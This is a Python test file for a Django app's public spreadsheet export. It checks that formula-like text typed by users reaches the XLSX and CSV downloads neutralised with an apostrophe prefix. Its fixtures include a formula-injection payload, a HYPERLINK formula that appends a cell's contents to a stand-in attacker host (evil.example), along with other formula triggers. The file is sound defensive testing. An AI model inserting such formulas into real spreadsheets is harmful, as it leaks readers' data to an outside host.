"""Text typed by a unit or the office reaches the public spreadsheets as text, never as a
formula that runs on the reader's machine."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse

from duban.disclosure.exports import neutralise
from duban.disclosure.services import publish

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_plan(plan, people):  # type: ignore[no-untyped-def]
    for number, text in enumerate(HOSTILE, start=1):
        task = plan.tasks.get(number=number)
        task.completion = text
        task.save()
    plan.tasks.filter(number=7).update(content=LINK)
    publish(plan, people.office, "mid_year")
    return plan


def _download(client, plan, fmt: str) -> bytes:  # type: ignore[no-untyped-def]
    response = client.get(reverse("disclosure:export", args=[plan.id, fmt]))
    assert response.status_code == 200
    return response.content


def test_no_formula_in_the_public_xlsx(client, hostile_plan) -> None:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(_download(client, hostile_plan, "xlsx")))
    sheet = book.active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    completions = [sheet.cell(row=4 + n, column=6).value for n in range(1, 7)]
    assert completions == ["'" + text for text in HOSTILE]
    assert sheet["C11"].value == "'" + LINK
    assert sheet["B5"].value == 1 and sheet["B5"].data_type == "n"  # numbers stay numbers


def test_no_formula_in_the_public_csv(client, hostile_plan) -> None:
    text = _download(client, hostile_plan, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][:2] == ["类别", "序号"]  # the header on line 1
    cells = [cell for row in rows[1:] for cell in row]
    # (a negative figure, -1.1, is a number to a spreadsheet, not a formula)
    assert not [
        c
        for c in cells
        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", c)
    ]
    assert [row[5] for row in rows[1:7]] == ["'" + t for t in HOSTILE]
    assert rows[1][1] == "1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-5%", "'-5%"),
        ("地区生产总值增长6%左右。", "地区生产总值增长6%左右。"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_only_text_that_would_run_is_prefixed(value, expected) -> None:
    assert neutralise(value) == expected
